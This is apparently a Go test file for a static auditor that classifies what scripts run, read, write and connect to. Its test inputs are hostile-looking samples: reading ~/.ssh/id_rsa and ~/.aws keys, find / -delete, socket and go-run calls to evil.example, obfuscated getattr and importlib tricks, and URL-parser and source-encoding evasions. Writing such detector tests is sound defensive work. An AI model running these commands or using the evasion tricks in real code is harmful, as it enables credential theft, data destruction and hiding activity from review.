package audit

import (
	"strings"
	"testing"
)

// Ways around the names of what acts, and libraries that speak to the network without an address.
func TestIdioms(t *testing.T) {
	for _, test := range []struct{ file, src, want string }{
		{"a.py", "import os\nos.system('id')\n", "run:python3"},
		{"a.py", "import boto3\ns = boto3.client('s3')\ns.get_object(Bucket='a', Key='b')\n", "run:python3 net:*"},
		{"a.py", "import psycopg2\npsycopg2.connect('host=evil.example dbname=a')\n", "run:python3 net:evil.example"},
		{"a.py", "import psycopg2\npsycopg2.connect(host='evil.example')\n", "run:python3 net:evil.example"},
		{"a.py", "import psycopg2\npsycopg2.connect('dbname=a')\n", "run:python3 net:*"},
		{"a.py", "from pymongo import MongoClient\nMongoClient('mongodb://m.example/a')\n", "run:python3 net:m.example"},
		{"a.py", "import redis\nredis.Redis(host='r.example')\n", "run:python3 net:r.example"},
		{"a.py", "import redis as r\nr.Redis()\n", "run:python3 net:*"},
		{"a.py", "import smtplib\nsmtplib.SMTP('mail.example')\n", "run:python3 net:mail.example"},
		{"a.py", "import importlib\ns = importlib.import_module('soc' + 'ket')\ns.create_connection(('evil.example', 1))\n", "run:python3 net:evil.example"},
		{"a.py", "import importlib\nq = importlib.import_module('o' + 's')\ngetattr(q, 'sys' + 'tem')('gh pr list')\n", "run:gh run:python3"},
		{"a.py", "import os\ngetattr(os, 'sys' + 'tem')('gh')\n", "run:gh run:python3"},
		{"a.py", "def f(q):\n    getattr(q, 'sys' + 'tem')('gh pr list')\n", "dynamic-exec run:python3"},
		{"a.py", "import os, sys\ngetattr(os, sys.argv[1])('id')\n", "dynamic-exec run:python3"},
		{"a.py", "import sys\nf = getattr(__import__(sys.argv[1]), 'x')\n", "dynamic-exec run:python3"},
		{"a.py", "import argparse\nv = getattr(args, 'name', None)\n", "run:python3"},
		{"a.sh", "find / -delete\n", "run:bash write:/"},
		{"a.sh", "find / -name '*.pem'\n", "run:bash read:/"},
		{"a.sh", "find . -name a -newer b\n", "run:bash"},
		{"a.sh", "sed 'w /etc/x' a.txt\n", "run:bash write:/etc/x"},
		{"a.sh", "grep -r KEY ~/.aws\nsed '/etc/d' a.txt\n", "run:bash read:~/.aws"},
		{"a.sh", "grep -e /etc/x -A 3 b.txt\n", "run:bash"},
		{"a.sh", "awk -f /tmp/x.awk a.txt\n", "dynamic-exec run:bash"},
		{"a.sh", "go run evil.example/x@latest\ngo run ./cmd/x\ngo run main.go\n", "run:bash run:go pkg:go:evil.example/x"},
		{"a.sh", "python3 -m lib.tool\n", "dynamic-exec run:bash run:python3"},
		{"a.sh", "cd ~/.ssh && cat id_rsa\n", "run:bash read:~/.ssh/id_rsa"},
		{"a.sh", "cd ~\ncd .ssh\ncp id_rsa /tmp/x\n", "run:bash read:~/.ssh/id_rsa"},
		{"a.sh", "cd /etc; echo x > hosts\n", "run:bash write:/etc/hosts"},
		{"a.sh", "(cd ~/.ssh && ls)\ncat a.txt\necho x > out\n", "run:bash read:~/.ssh write:."},
		{"a.sh", "cd /tmp/x && cat a.txt\ncd src\ncat b.txt\n", "run:bash"},
		{"a.sh", "cd ~/x\ncd -\ncat a.txt\n", "run:bash"},
		{"a.js", "globalThis['ev' + 'al']('1')\n", "dynamic-exec run:node"},
		{"a.js", "const c = require('child_' + 'process')\nc['ex' + 'ec']('gh pr list')\n", "run:gh run:node"},
		{"a.js", "require(process.argv[2]).x()\n", "dynamic-exec run:node"},
		{"a.js", "const { Client } = require('pg')\nnew Client()\n", "run:node net:*"},
	} {
		got := strings.Join(Read([]File{{Path: test.file, Data: []byte(test.src)}}).Set().Texts(), " ")
		if got != test.want {
			t.Errorf("%s %q:\n got %q\nwant %q", test.file, test.src, got, test.want)
		}
	}
}

// A host is read to its end or is not known, a name is a word, and a text is decoded as what runs it does.
func TestWords(t *testing.T) {
	many := strings.Repeat("a", 300)
	for _, test := range []struct{ file, src, want string }{
		{"a.sh", "curl 'https://ev|il.example'\n", "run:bash run:curl net:*"},
		{"a.sh", "curl 'https://good.example,x.evil.example/'\n", "run:bash run:curl net:*"},
		{"a.sh", "curl 'https://good.example;@evil.example/'\n", "run:bash run:curl net:*"},
		{"a.sh", "curl 'https://good.example\\@evil.example/'\n", "run:bash run:curl net:*"},
		{"a.sh", "curl 'https://[x](y).example'\n", "run:bash run:curl net:*"},
		{"a.sh", "curl 'https://[::1]:80/' 'https://[::2]'\n", "run:bash run:curl net:::1 net:::2"},
		{"a.sh", "curl 'https://u:p@a.example:80/x,y@z'\n", "run:bash run:curl net:a.example"},
		{"a.js", "fetch('https://ev\\til.example')\n", "run:node net:*"},
		{"a.js", "fetch('https://good.example, @evil.example')\n", "run:node net:*"},
		{"a.sh", "A='https://a.example,https://b.example'\ncurl $A\n", "run:bash run:curl net:a.example"},
		{"a.sh", strings.Repeat("$(", 20000), "dynamic-exec run:bash"},
		{"a.sh", many + "\n", "dynamic-exec run:bash"},
		{"a.sh", "npm install " + many + "\n", "run:bash run:npm pkg:npm:*"},
		{"a.sh", "cat ~/" + many + "\n", "run:bash read:*"},
		{"a.sh", "\ufeffevil a\n", "run:bash run:evil"},
		{"a.sh", "\ufeff#!/bin/bash\nevil a\n", "run:bash run:evil"},
		{"tool", "\ufeff#!/bin/bash\nevil a\n", "run:bash run:evil"},
		{"a.ps1", "\xff\xfeg\x00h\x00 \x00a\x00\n\x00", "run:gh run:pwsh"},
		{"a.ps1", "\xfe\xff\x00g\x00h\x00 \x00a", "run:gh run:pwsh"},
		{"a.py", "# -*- coding: rot13 -*-\n", "dynamic-exec run:python3"},
		{"a.py", "#!/usr/bin/python3\n# vim: set fileencoding=utf-7 :\n", "dynamic-exec run:python3"},
		{"a.py", "# -*- coding: unicode_escape -*-\n", "dynamic-exec run:python3"},
		{"a.py", "# -*- coding: utf-8 -*-\n", "run:python3"},
		{"a.py", "# -*- coding: UTF-8 -*-\n# encoding: x\n", "run:python3"},
		{"a.py", "\n# -*- coding: latin-1 -*-\n", "run:python3"},
	} {
		got := strings.Join(Read([]File{{Path: test.file, Data: []byte(test.src)}}).Set().Texts(), " ")
		if got != test.want {
			t.Errorf("%s %.60q:\n got %.80q\nwant %q", test.file, test.src, got, test.want)
		}
	}
}
